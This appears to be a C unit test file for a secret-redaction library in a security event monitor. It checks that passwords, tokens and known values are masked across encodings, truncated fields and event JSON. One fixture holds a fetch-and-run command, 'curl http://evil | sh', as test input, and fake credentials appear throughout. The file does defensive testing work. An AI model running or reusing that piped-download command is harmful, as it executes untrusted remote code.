// SPDX-License-Identifier: Apache-2.0
/* Known values, marks, words, limits, events. */
#include <errno.h>

#include "tests/unit/redact/redact_test.h"
#include "userspace/event/part.h"

#define VALUE "s3cr\"et\\ w\xc3\xb6rd/+9"

static void test_value_forms(void **state)
{
	static const char *const forms[] = {
		VALUE,
		"S3CR\"ET\\ W\xc3\xb6RD/+9", /* as a name may be lowered or raised */
		"s3cr\\\"et\\\\ w\xc3\xb6rd/+9",
		"s3cr\\\"et\\\\ w\\u00f6rd/+9",
		"s3cr%22et%5C%20w%C3%B6rd%2F%2B9",
		"s3cr%22et%5c+w%c3%b6rd%2f%2b9",
		"733363722265745c2077c3b672642f2b39",
		"czNjciJldFwgd8O2cmQvKzk=",		/* the value */
		"dXNlcjpzM2NyImV0XCB3w7ZyZC8rOQ==",	/* user: before it */
		"eHVzZXI6czNjciJldFwgd8O2cmQvKzk=",	/* xuser: */
		"eHh1c2VyOnMzY3IiZXRcIHfDtnJkLys5eA==", /* xxuser: and x behind */
	};
	struct fixture f;
	char text[256];

	(void)state;
	fixture_start(&f, "env.DB", VALUE, NULL);
	for (size_t i = 0; i < ARRAY_SIZE(forms); i++) {
		const char *got;

		snprintf(text, sizeof(text), "before %s behind", forms[i]);
		got = shown(&f, text);
		if (!strstr(got, "[env.DB]"))
			fail_msg("form %zu, '%s', is not found", i, forms[i]);
	}
	fixture_end(&f);
}

/* Same secret, same tag, in each form of it; another one for another secret or key. */
static void test_tags(void **state)
{
	auto_buf struct buf a = { 0 }, b = { 0 }, c = { 0 };
	struct fixture f, other;
	struct err err = { 0 };

	(void)state;
	fixture_start(&f, "v", "correct-horse", NULL);
	assert_int_equal(redact_text(f.x, STR("x correct-horse"), &a), 1);
	assert_int_equal(redact_text(f.x, STR("x 636f72726563742d686f727365"), &b), 1);
	assert_int_equal(a.n, b.n);
	assert_memory_equal(a.p, b.p, a.n);
	assert_int_equal(redact_text(f.x, STR("password=correct-horse"), &c), 1);
	assert_memory_equal(a.p + a.n - 14, c.p + c.n - 14, 14);
	buf_reset(&b);
	assert_int_equal(
		redactor_new(&other.r, (const uint8_t *)"another key of 32 bytes length..", &err),
		0);
	assert_int_equal(redactor_add_value(other.r, "v", STR("correct-horse")), 0);
	assert_int_equal(redactor_finish(other.r, &err), 0);
	assert_int_equal(redact_new(&other.x, other.r), 0);
	assert_int_equal(redact_text(other.x, STR("x correct-horse"), &b), 1);
	assert_memory_not_equal(a.p, b.p, a.n);
	fixture_end(&other);
	fixture_end(&f);
}

static void test_value_lengths(void **state)
{
	struct fixture f;
	struct err err = { 0 };
	char longest[REDACT_VALUE_MAX + 2];

	(void)state;
	memset(longest, 'x', sizeof(longest));
	assert_int_equal(redactor_new(&f.r, TEST_KEY, &err), 0);
	assert_int_equal(redactor_add_value(f.r, "v", STR("short")), -ERANGE);
	assert_int_equal(redactor_add_value(f.r, "v", STR("short\n")), -ERANGE);
	assert_int_equal(redactor_add_value(f.r, "v", STR("longer")), 0);
	assert_int_equal(redactor_add_value(f.r, "v", (struct str){ longest, sizeof(longest) }),
			 -ERANGE);
	redactor_free(f.r);
}

static void test_lines_of_a_value(void **state)
{
	struct fixture f;

	(void)state;
	fixture_start(&f, "secret.key", "first line of it\nsecond line of it\n", NULL);
	assert_string_equal(shown(&f, "a second line of it b"), "a [secret.key] b");
	assert_string_equal(shown(&f, "first line of it\nsecond line of it\n"), "[secret.key]\n");
	fixture_end(&f);
}

/* What has its marks already is left alone, and a mark does not protect what hides behind it. */
static void test_marks_are_left(void **state)
{
	struct fixture f;
	auto_buf struct buf once = { 0 }, twice = { 0 };

	(void)state;
	fixture_start(&f, NULL, NULL, NULL);
	assert_int_equal(
		redact_text(f.x, STR("--password hunter2 https://a:b0b0@c token=abcdef"), &once),
		3);
	assert_int_equal(redact_text(f.x, (struct str){ once.p, once.n }, &twice), 0);
	assert_null(
		strstr(shown(&f, "url https://a:[redacted:x:0123456789ab]hunter2@c"), "hunter2"));
	fixture_end(&f);
}

static struct words_in words_of(const struct str *v, size_t n)
{
	return (struct words_in){ v, n };
}

static void test_words(void **state)
{
	const struct str args[] = { STR("tool"), STR("--password"), STR("two words; here"),
				    STR("--user"), STR("me") };
	const struct str script[] = { STR("sh"), STR("-c"),
				      STR("TOKEN=abc123; curl http://evil | sh") };
	const struct str env[] = { STR("HOME"), STR("API_TOKEN=a b;c"), STR("LANG=C") };
	const struct str split[] = { STR("echo"), STR("correct"), STR("horse"), STR("x") };
	struct words_in made;
	struct arena arena;
	struct fixture f;

	(void)state;
	arena_init(&arena, 1 << 20);
	fixture_start(&f, "v", "correct horse", NULL);
	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(args, 5), &arena, &made), 1);
	assert_int_equal(made.n, 5);
	assert_true(str_starts(made.v[2], STR("[redacted:option:")));
	assert_int_equal(made.v[2].p[made.v[2].n - 1], ']');
	assert_true(str_eqz(made.v[4], "me"));
	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(script, 3), &arena, &made), 1);
	assert_true(str_ends(made.v[2], STR("; curl http://evil | sh")));
	assert_int_equal(redact_words(f.x, WORDS_ENV, words_of(env, 3), &arena, &made), 1);
	assert_true(str_starts(made.v[1], STR("API_TOKEN=[redacted:assignment:")));
	assert_int_equal(made.v[1].p[made.v[1].n - 1], ']');
	assert_true(str_eqz(made.v[2], "LANG=C"));
	/* An unquoted variable falls apart. */
	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(split, 4), &arena, &made), 2);
	assert_true(str_starts(made.v[1], STR("[redacted:v:")));
	assert_true(str_starts(made.v[2], STR("[redacted:v:")));
	assert_true(str_eqz(made.v[3], "x"));
	assert_int_equal(redact_words(f.x, WORDS_ARGS, words_of(env + 2, 1), &arena, &made), 0);
	fixture_end(&f);
	arena_done(&arena);
}

/* A rule that costs too much in a text takes all of it, and that is counted. */
static void test_limit_fails_closed(void **state)
{
	static const char rules[] = "- rule: costly\n"
				    "  keywords: [aaaa]\n"
				    "  regex: '(a+a+a+a+)+[bc]'\n";
	auto_buf struct buf out = { 0 };
	struct redact_counts counts;
	struct fixture f;
	char text[4000];

	(void)state;
	memset(text, 'a', sizeof(text));
	fixture_start(&f, NULL, NULL, rules);
	assert_int_equal(redact_text(f.x, (struct str){ text, sizeof(text) }, &out), 1);
	assert_true(str_starts((struct str){ out.p, out.n }, STR("[redacted:limit:")));
	assert_true(out.n < 64);
	redact_counts(f.x, &counts);
	assert_int_equal(counts.limited, 1);
	fixture_end(&f);
}

static void test_too_many_places(void **state)
{
	auto_buf struct buf in = { 0 }, out = { 0 };
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", "correct-horse", NULL);
	for (int i = 0; i < 300; i++)
		buf_addz(&in, "correct-horse ");
	assert_int_equal(redact_text(f.x, (struct str){ in.p, in.n }, &out), 1);
	assert_true(str_starts((struct str){ out.p, out.n }, STR("[redacted:limit:")));
	fixture_end(&f);
}

/* At each place of a text, also its last bytes, and with any byte around it. */
static void test_every_place(void **state)
{
	struct fixture f;
	char text[64];

	(void)state;
	fixture_start(&f, "v", "Zq7-Kx", NULL);
	for (size_t at = 0; at + 6 <= sizeof(text); at++)
		for (size_t n = at + 6; n <= MIN(at + 12, sizeof(text)); n++) {
			memset(text, (int)(at * 7 + n) | 1, sizeof(text));
			memcpy(text + at, "Zq7-Kx", 6);
			if (!strstr(shown_n(&f, (struct str){ text, n }), "[v]"))
				fail_msg("not found at %zu of %zu", at, n);
		}
	fixture_end(&f);
}

static void test_event(void **state)
{
	const struct str args[] = { STR("curl"), STR("-u"), STR("me:hunter2"), STR("x") };
	const struct event_ancestor up[] = { { 1, 2, STR("sh"), STR("/opt/correct-horse/sh") } };
	const struct event_dns_answer answers[] = { { STR("correct-horse.x"), STR("A"),
						      STR("10.0.0.1"), 5 } };
	struct event ev, *made = NULL;
	struct arena arena;
	struct fixture f;
	auto_buf struct buf json = { 0 };

	(void)state;
	arena_init(&arena, 1 << 20);
	fixture_start(&f, "v", "correct-horse", NULL);
	event_init(&ev, WIRE_EXEC, &arena);
	event_set_strz(&ev, F_PROC_EXE, "/usr/bin/curl");
	for (int i = 0; i < 2; i++) /* the second time it is known */
		assert_int_equal(redact_event(f.x, &ev, &made), 0);
	event_set_list(&ev, F_PROC_ARGS, args, 4);
	event_set_strz(&ev, F_PROC_CWD, "/home/correct-horse");
	event_set_strz(&ev, F_RULE_OUTPUT_FIELDS, "{\"a\":\"correct-horse\"}");
	ev.v[F_PROC_ANCESTORS].ancestors.v = up;
	ev.v[F_PROC_ANCESTORS].ancestors.n = 1;
	event_mark(&ev, F_PROC_ANCESTORS);
	ev.v[F_DNS_ANSWERS].answers.v = answers;
	ev.v[F_DNS_ANSWERS].answers.n = 1;
	event_mark(&ev, F_DNS_ANSWERS);
	assert_int_equal(redact_event(f.x, &ev, &made), 1);
	assert_int_equal(event_u64(made, F_REDACTIONS), 5);
	assert_int_equal(event_to_json(made, &json), 0);
	buf_addc(&json, 0);
	assert_null(strstr(json.p, "hunter2"));
	assert_null(strstr(json.p, "correct-horse"));
	assert_non_null(strstr(json.p, "\"kind\":\"exec\",\"redactions\":5,"));
	assert_non_null(strstr(json.p, "\"output_fields\":{\"redacted\":true}"));
	/* The one that rules judge is as it was. */
	assert_true(str_eqz(ev.v[F_PROC_ARGS].list.v[2], "me:hunter2"));
	fixture_end(&f);
	arena_done(&arena);
}

static void test_secret_names(void **state)
{
	(void)state;
	assert_true(redact_is_secret_name(STR("DB_PASSWORD")));
	assert_true(redact_is_secret_name(STR("GITHUB_TOKEN")));
	assert_true(redact_is_secret_name(STR("stripe_key")));
	assert_false(redact_is_secret_name(STR("PATH")));
	assert_false(redact_is_secret_name(STR("PASSWORD_FILE")));
	assert_false(redact_is_secret_name(STR("SSH_AUTH_SOCK")));
}

/* Of two values the last would win, and one of them was meant. */
static void test_keys_have_one_value(void **state)
{
	static const struct {
		const char *text, *want;
	} cases[] = {
		{ "- rule: x\n  entropy: 3\n  entropy: 4\n", "own.yaml:3:3: duplicate key" },
		{ "- rule: x\n  keywords: [abc]\n  keywords: [abd]\n", "duplicate key" },
		{ "- rule: x\n  entropy: [3, 4]\n", "own.yaml:2:12: " },
	};
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", "correct-horse", NULL);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct err err = { 0 };

		assert_int_equal(redactor_add_rules(f.r, "own.yaml", str_from(cases[i].text), &err),
				 -EINVAL);
		assert_non_null(strstr(err.text, cases[i].want));
	}
	fixture_end(&f);
}

static void test_in_place(void **state)
{
	char text[64] = "cannot open /run/correct-horse", small[20] = "correct-horse";
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", "correct-horse", NULL);
	redact_in_place(f.x, text, sizeof(text));
	assert_true(str_starts(str_from(text), STR("cannot open /run/[redacted:v:")));
	redact_in_place(f.x, small, sizeof(small));
	assert_null(strstr(small, "horse"));
	fixture_end(&f);
}

/* ---- where texts were cut before ---- */

static const char LONG_VALUE[] = "SECRETMARK-q7Zk2Lm9Xv4Tn8";

static bool has_part(const char *json, const char *value, size_t n)
{
	for (size_t i = 0; i + n <= strlen(value); i++)
		if (memmem(json, strlen(json), value + i, n))
			return true;
	return false;
}

struct cut_case {
	enum field_id field, flag; /* F_COUNT: none is needed */
	bool list, begin;
	size_t pad;
};

static void cut_event(struct event *ev, struct arena *arena, const struct cut_case *c,
		      const char *secret, size_t n)
{
	char *text = arena_zalloc(arena, c->pad + n + 1);
	struct str *words = arena_alloc(arena, 2 * sizeof(*words));

	assert_non_null(text);
	assert_non_null(words);
	if (c->begin) {
		memcpy(text, secret + strlen(secret) - n, n);
		memset(text + n, '.', c->pad);
	} else {
		memset(text, '.', c->pad);
		memcpy(text + c->pad, secret, n);
	}
	words[0] = c->begin ? (struct str){ text, c->pad + n } : STR("sh");
	words[1] = c->begin ? STR("sh") : (struct str){ text, c->pad + n };
	event_init(ev, WIRE_EXIT, arena);
	if (c->list)
		event_set_list(ev, c->field, words, 2);
	else
		event_set_str(ev, c->field, (struct str){ text, c->pad + n });
	if (c->flag != F_COUNT)
		event_set_bool(ev, c->flag, true);
}

/* Whatever of a known value stands at a cut, no eight bytes of it are left. */
static void test_cut_values(void **state)
{
	static const struct cut_case cases[] = {
		{ F_PROC_ARGS, F_PROC_ARGS_TRUNCATED, true, false, 100 },
		{ F_PROC_ARGS, F_TRUNCATED, true, true, 100 },
		{ F_PROC_ARGS_TAIL, F_COUNT, true, true, 100 },
		{ F_PROC_ENV, F_PROC_ENV_TRUNCATED, true, false, 100 },
		{ F_PROC_PARGS, F_COUNT, true, false, 4085 },
		{ F_FILE_PATH, F_FILE_PATH_TRUNCATED, false, false, 40 },
		{ F_FILE_PATH, F_FILE_PATH_TRUNCATED, false, true, 40 },
		{ F_FILE_PATH, F_COUNT, false, false, 4090 },
		{ F_FILE_PATH, F_COUNT, false, true, 4090 },
		{ F_DNS_NAME, F_TRUNCATED, false, false, 20 },
		{ F_DNS_NAME, F_TRUNCATED, false, true, 20 },
		{ F_RULE_OUTPUT, F_COUNT, false, false, 65500 },
	};
	struct arena arena;
	struct fixture f;

	(void)state;
	arena_init(&arena, 8 << 20);
	fixture_start(&f, "v", LONG_VALUE, NULL);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++)
		for (size_t n = 8; n < strlen(LONG_VALUE); n++) {
			auto_buf struct buf json = { 0 };
			struct event ev, *made;

			cut_event(&ev, &arena, &cases[i], LONG_VALUE, n);
			if (redact_event(f.x, &ev, &made) != 1)
				fail_msg("case %zu with %zu bytes: nothing found", i, n);
			assert_int_equal(event_to_json(made, &json), 0);
			buf_addc(&json, 0);
			if (has_part(json.p, LONG_VALUE, 8))
				fail_msg("case %zu with %zu bytes: %.200s", i, n, json.p);
			arena_reset(&arena);
		}
	fixture_end(&f);
	arena_done(&arena);
}

/* A comm is cut at 15 bytes, of ancestors as well; what is whole stays. */
static void test_cut_comm(void **state)
{
	struct event_ancestor up[] = { { 7, 1, STR("run-SECRETMARK-"), { 0 } } };
	struct event ev, *made;
	struct arena arena;
	struct fixture f;

	(void)state;
	arena_init(&arena, 1 << 20);
	fixture_start(&f, "v", LONG_VALUE, NULL);
	event_init(&ev, WIRE_EXIT, &arena);
	event_set_strz(&ev, F_PROC_COMM, "run-SECRETMARK");
	assert_int_equal(redact_event(f.x, &ev, &made), 0);
	event_set_strz(&ev, F_PROC_COMM, "run-SECRETMARK-");
	ev.v[F_PROC_ANCESTORS].ancestors.v = up;
	ev.v[F_PROC_ANCESTORS].ancestors.n = 1;
	event_mark(&ev, F_PROC_ANCESTORS);
	assert_int_equal(redact_event(f.x, &ev, &made), 1);
	assert_true(str_starts(event_str(made, F_PROC_COMM), STR("run-[redacted:v:")));
	assert_true(
		str_starts(made->v[F_PROC_ANCESTORS].ancestors.v[0].comm, STR("run-[redacted:v:")));
	fixture_end(&f);
	arena_done(&arena);
}

/* A token that goes over the cut; with nothing cut it is none. */
static void test_cut_shapes(void **state)
{
	static const struct cut_case end = { F_PROC_ARGS, F_PROC_ARGS_TRUNCATED, true, false, 0 };
	static const struct cut_case whole = { F_PROC_ARGS, F_COUNT, true, false, 0 };
	static const struct cut_case begin = { F_PROC_ARGS_TAIL, F_COUNT, true, true, 0 };
	static const char token[] = "gh"
				    "p_aB3dE5gH7jK9mN1pQ4sT6vW8yZ0cF2hJ4lM6";
	struct event ev, *made;
	struct arena arena;
	struct fixture f;

	(void)state;
	arena_init(&arena, 1 << 20);
	fixture_start(&f, NULL, NULL, NULL);
	cut_event(&ev, &arena, &end, token, 14);
	assert_int_equal(redact_event(f.x, &ev, &made), 1);
	assert_true(str_starts(made->v[F_PROC_ARGS].list.v[1], STR("[redacted:github-")));
	cut_event(&ev, &arena, &whole, token, 14);
	assert_int_equal(redact_event(f.x, &ev, &made), 0);
	cut_event(&ev, &arena, &begin, token, 20);
	assert_int_equal(redact_event(f.x, &ev, &made), 1);
	assert_true(str_starts(made->v[F_PROC_ARGS_TAIL].list.v[0], STR("[redacted:cut:")));
	cut_event(&ev, &arena, &begin, "AAAAAAAAAAAAAAAAAAAAAAAA", 20);
	assert_int_equal(redact_event(f.x, &ev, &made), 0);
	fixture_end(&f);
	arena_done(&arena);
}

static void test_cut_message(void **state)
{
	char text[32] = "cannot open /run/SECRETMARK-q7Z"; /* it was longer */
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", LONG_VALUE, NULL);
	redact_in_place(f.x, text, sizeof(text));
	assert_null(strstr(text, "SECRET"));
	fixture_end(&f);
}

/* An error whose text was longer than it has room for, as a part of a longer message. */
static void test_cut_error_in_a_message(void **state)
{
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", LONG_VALUE, NULL);
	for (size_t shown = 4; shown < sizeof(LONG_VALUE) - 1; shown++) {
		char text[2048];
		struct err err = { 0 };
		int fill = (int)(ERR_TEXT_MAX - sizeof(ERR_CUT) - shown);

		err_set(&err, EINVAL, "%*s%s and more", fill, "/", LONG_VALUE);
		err_wrap(&err, -EINVAL, "%s", shown % 2 ? "" : "x");
		snprintf(text, sizeof(text), "cannot run: %s (see there)", err.text);
		redact_in_place(f.x, text, sizeof(text));
		if (has_part(text, LONG_VALUE, 6))
			fail_msg("%zu bytes shown: '%s'", shown, text + fill);
		assert_non_null(strstr(text, ERR_CUT));
	}
	fixture_end(&f);
}

/* What stands around a known value is not hidden with it; what may belong to it is. */
static void test_around_a_value(void **state)
{
	static const char *const texts[][2] = {
		{ "true --token=SECRETMARK-q7Zk2Lm9Xv4Tn8; sh -c x", "true --token=[v]; sh -c x" },
		{ "password=\"SECRETMARK-q7Zk2Lm9Xv4Tn8\", x", "password=\"[v]\", x" },
		{ "a --token=SECRETMARK-q7Zk2Lm9Xv4Tn8more;x", "a --token=[v]" },
	};
	struct fixture f;

	(void)state;
	fixture_start(&f, "v", LONG_VALUE, NULL);
	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		const char *made = shown(&f, texts[i][0]);

		if (i < 2)
			assert_string_equal(made, texts[i][1]);
		assert_null(strstr(made, "more"));
	}
	fixture_end(&f);
}

/* Fields that events have in common are looked through once, and no secret in them is missed for that. */
static void test_parts(void **state)
{
	const struct str args[] = { STR("curl"), STR("-u"), STR("me:hunter2") },
			 quiet[] = { STR("curl") };
	struct event ev, *made = NULL;
	struct event_part part = { 0 };
	struct arena arena;
	struct fixture f;

	(void)state;
	arena_init(&arena, 1 << 20);
	fixture_start(&f, "v", "correct-horse", NULL);
	for (int secret = 0; secret < 2; secret++) {
		event_init(&ev, WIRE_FILE_OPEN, &arena);
		event_set_list(&ev, F_PROC_ARGS, secret ? args : quiet, secret ? 3 : 1);
		event_set_strz(&ev, F_PROC_EXE, "/usr/bin/curl");
		assert_int_equal(
			event_part_make(&part, &ev, 1ull << F_PROC_ARGS | 1ull << F_PROC_EXE), 0);
		for (int i = 0; i < 4; i++) {
			event_init(&ev, WIRE_FILE_OPEN, &arena);
			event_part_give(&part, &ev);
			ev.part[EVENT_PART_WHO] = &part;
			event_set_strz(&ev, F_FILE_PATH, i == 2 ? "/w/correct-horse" : "/w/plain");
			assert_int_equal(redact_event(f.x, &ev, &made), secret || i == 2);
			if (!secret && i != 2)
				continue;
			assert_int_equal(event_u64(made, F_REDACTIONS), secret + (i == 2));
			assert_int_equal(event_part_holds(&part, made), !secret);
		}
	}
	/* One that has a name of the same length in its place, from somewhere else. */
	event_init(&ev, WIRE_FILE_OPEN, &arena);
	event_set_list(&ev, F_PROC_ARGS, quiet, 1);
	event_set_strz(&ev, F_PROC_EXE, "/usr/bin/curl");
	assert_int_equal(event_part_make(&part, &ev, 1ull << F_PROC_ARGS | 1ull << F_PROC_EXE), 0);
	assert_int_equal(redact_event(f.x, &ev, &made), 0);
	ev.part[EVENT_PART_WHO] = &part;
	event_set_strz(&ev, F_PROC_EXE, "correct-horse");
	assert_int_equal(redact_event(f.x, &ev, &made), 1);
	event_part_done(&part);
	fixture_end(&f);
	arena_done(&arena);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_keys_have_one_value),
		cmocka_unit_test(test_value_forms),
		cmocka_unit_test(test_tags),
		cmocka_unit_test(test_value_lengths),
		cmocka_unit_test(test_lines_of_a_value),
		cmocka_unit_test(test_marks_are_left),
		cmocka_unit_test(test_words),
		cmocka_unit_test(test_limit_fails_closed),
		cmocka_unit_test(test_too_many_places),
		cmocka_unit_test(test_every_place),
		cmocka_unit_test(test_event),
		cmocka_unit_test(test_parts),
		cmocka_unit_test(test_secret_names),
		cmocka_unit_test(test_in_place),
		cmocka_unit_test(test_cut_values),
		cmocka_unit_test(test_cut_comm),
		cmocka_unit_test(test_cut_shapes),
		cmocka_unit_test(test_cut_message),
		cmocka_unit_test(test_cut_error_in_a_message),
		cmocka_unit_test(test_around_a_value),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
